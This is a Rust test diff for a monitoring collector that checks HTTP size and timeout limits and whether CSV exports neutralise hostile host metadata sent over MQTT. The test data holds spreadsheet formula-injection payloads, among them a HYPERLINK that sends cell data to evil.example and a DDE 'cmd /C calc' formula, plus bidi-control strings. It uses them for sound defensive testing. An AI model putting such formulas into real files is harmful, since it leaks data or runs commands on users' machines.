@@ -3,17 +3,27 @@
 //! starts its own collector (run open, on port 0).
 
 use dozor_tests::*;
+use rumqttc::{AsyncClient, MqttOptions, QoS};
 use std::time::{Duration, Instant};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
 /// A collector whose HTTP listener has these limits.
 fn collector(dir: &std::path::Path, header_timeout_secs: u64, max_connections: usize) -> Collector {
+    collector_with(dir, header_timeout_secs, max_connections, 120)
+}
+
+fn collector_with(
+    dir: &std::path::Path,
+    header_timeout_secs: u64,
+    max_connections: usize,
+    request_timeout_secs: u64,
+) -> Collector {
     let cfg = dir.join("collector.toml");
     std::fs::write(
         &cfg,
         format!(
-            "[http]\nheader_read_timeout_secs = {header_timeout_secs}\nmax_connections = {max_connections}\n"
+            "[http]\nheader_read_timeout_secs = {header_timeout_secs}\nmax_connections = {max_connections}\nrequest_timeout_secs = {request_timeout_secs}\n"
         ),
     )
     .unwrap();
@@ -233,11 +243,20 @@ async fn oversized_silences_are_refused_and_memory_stays_flat() {
     }
     // A body over the 64 KiB limit (the 1.9 MB `mo` of issue 10): 413, same shape.
     let huge = serde_json::json!({"mo": "1".repeat(1_900_000), "duration_secs": 60});
+    let url = format!("http://{}/api/v1/silences", c.http);
+    let mut answered = 0;
+    // Its own client: the connections the server closes never go back into `c.client`'s pool.
+    let huge_client = reqwest::Client::new();
     for _ in 0..20 {
-        let (status, j) = post_silence(&c, &huge).await;
-        assert_eq!(status, 413);
-        assert_error(&j, "too_large", None);
+        // The server answers after 64 KiB and closes without reading the rest; the client,
+        // still writing, may see the reset before the answer: that attempt is refused too.
+        if let Ok(r) = huge_client.post(&url).json(&huge).send().await {
+            assert_eq!(r.status(), 413);
+            assert_error(&r.json().await.unwrap(), "too_large", None);
+            answered += 1;
+        }
     }
+    assert!(answered > 0, "no 413 seen");
     let after = rss_kib(pid);
     eprintln!("RSS before {before} KiB, after 120 oversized attempts {after} KiB");
     assert_eq!(silence_count(&c).await, 0);
@@ -421,4 +440,150 @@ async fn readyz_follows_the_broker() {
         t.elapsed()
     );
     assert_eq!(c.metric("dozor_ready{check=\"broker\"}").await, 1.0);
+}
+
+const MO: &str = "1.2.643.5.1.13.13.12.2.27.77";
+
+/// A `birth` with this site and hostname, as an agent sends it.
+fn birth(host: &str, site: &str, hostname: &str) -> Vec<u8> {
+    let now = unix_ms();
+    serde_json::to_vec(&serde_json::json!({
+        "v": 1, "mo": MO, "host": host, "inst": format!("i-{host}"), "seq": 1, "ts": now,
+        "body": {
+            "agent_version": "0.1.0", "role": "workstation", "site": site,
+            "hostname": hostname, "os_name": "Astra Linux", "os_version": "1.7",
+            "cpu_model": "Intel", "cpu_count": 4, "mem_total_bytes": 4000,
+            "disks": [{"mount": "/", "fs": "ext4", "total_bytes": 100}],
+            "boot_time": now / 1000 - 3600, "boot_id": "b-1", "seq_base": 1,
+            "interval_secs": 30, "keepalive_secs": 30,
+            "targets": [{"name": "mis", "category": "mis"}]
+        }
+    }))
+    .unwrap()
+}
+
+async fn mqtt(port: u16) -> AsyncClient {
+    let (c, mut el) = AsyncClient::new(MqttOptions::new("hostile-names", "127.0.0.1", port), 100);
+    tokio::spawn(async move {
+        loop {
+            if el.poll().await.is_err() {
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        }
+    });
+    c
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_names_never_reach_a_person() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = collector(dir.path(), 10, 4096);
+    let client = mqtt(c.mqtt_port).await;
+    let hostile = [
+        (
+            "pc-h1",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
+            "=cmd|' /C calc'!A0",
+        ),
+        ("pc-h2", "+1+1", "@SUM(A1:A9)"),
+        ("pc-h3", "-2+3", "-1"),
+    ];
+    for (host, site, hostname) in hostile {
+        client
+            .publish(
+                format!("dozor/v1/{MO}/{host}/birth"),
+                QoS::AtLeastOnce,
+                false,
+                birth(host, site, hostname),
+            )
+            .await
+            .unwrap();
+    }
+    // Bidi controls and line separators are refused at decode: the host never appears.
+    for (i, bad) in ["ВОССТАНОВЛЕНО\u{202E}", "ложная\u{2028}тревога"]
+        .iter()
+        .enumerate()
+    {
+        let host = format!("pc-b{i}");
+        client
+            .publish(
+                format!("dozor/v1/{MO}/{host}/birth"),
+                QoS::AtLeastOnce,
+                false,
+                birth(&host, bad, "PC"),
+            )
+            .await
+            .unwrap();
+    }
+    let rejected = wait_for(Duration::from_secs(10), || async {
+        let v = c
+            .metric("dozor_messages_rejected_total{reason=\"bad_value\"}")
+            .await;
+        (v >= 2.0).then_some(v)
+    })
+    .await;
+    assert!(rejected.is_some(), "bidi births not rejected as bad_value");
+
+    // The availability CSV by host, read back with a CSV parser.
+    let now = unix_ms();
+    let path = format!(
+        "/api/v1/availability?from={}&to={}&by=host&format=csv",
+        now - 3_600_000,
+        now + 60_000
+    );
+    let csv_text = wait_for(Duration::from_secs(15), || async {
+        let t = c.text(&path).await;
+        t.contains("pc-h3").then_some(t)
+    })
+    .await
+    .unwrap_or_else(|| panic!("hostile hosts not in the availability CSV"));
+    let body = csv_text.trim_start_matches('\u{feff}');
+    let mut r = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(true)
+        .flexible(true)
+        .from_reader(body.as_bytes());
+    let mut seen = 0;
+    for rec in r.records() {
+        let rec = rec.unwrap();
+        // Columns: МО, host, name, role, site, then numbers.
+        for f in rec.iter().take(5) {
+            assert!(
+                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "CSV cell {f:?}"
+            );
+        }
+        if rec.get(1).is_some_and(|h| h.starts_with("pc-h")) {
+            seen += 1;
+            assert!(rec.get(2).unwrap().starts_with('\''), "{rec:?}");
+            assert!(rec.get(4).unwrap().starts_with('\''), "{rec:?}");
+        }
+    }
+    assert_eq!(seen, 3, "{csv_text}");
+    // The births with bidi controls never got in.
+    assert!(!csv_text.contains("pc-b"), "{csv_text}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_slowly_sent_body_gets_408_and_the_connection_closes() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = collector_with(dir.path(), 10, 4096, 2);
+    let mut s = TcpStream::connect(c.http).await.unwrap();
+    s.write_all(
+        b"POST /api/v1/silences HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
+    )
+    .await
+    .unwrap();
+    let t = Instant::now();
+    let mut got = Vec::new();
+    tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut got))
+        .await
+        .expect("connection still open 5 s after a 2 s request timeout")
+        .ok();
+    let text = String::from_utf8_lossy(&got);
+    eprintln!("slow body answered after {:?}", t.elapsed());
+    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
+    assert!(text.contains("\"error\":\"request_timeout\""), "{text}");
+    // A normal request still works.
+    assert_eq!(timed_get(&c, "/healthz").await.0, 200);
 }
